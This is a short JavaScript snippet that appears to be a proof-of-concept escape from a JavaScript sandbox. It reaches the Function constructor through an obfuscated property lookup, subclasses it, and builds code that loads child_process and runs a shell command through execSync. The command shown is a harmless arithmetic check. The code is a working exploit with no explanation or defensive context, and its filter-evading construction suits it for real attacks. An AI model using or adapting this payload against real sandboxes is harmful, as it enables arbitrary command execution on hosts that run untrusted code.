const k=Object.getOwnPropertyNames(Object.prototype)[0]; const a=''[k];
class G extends a[k]{}
new G('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
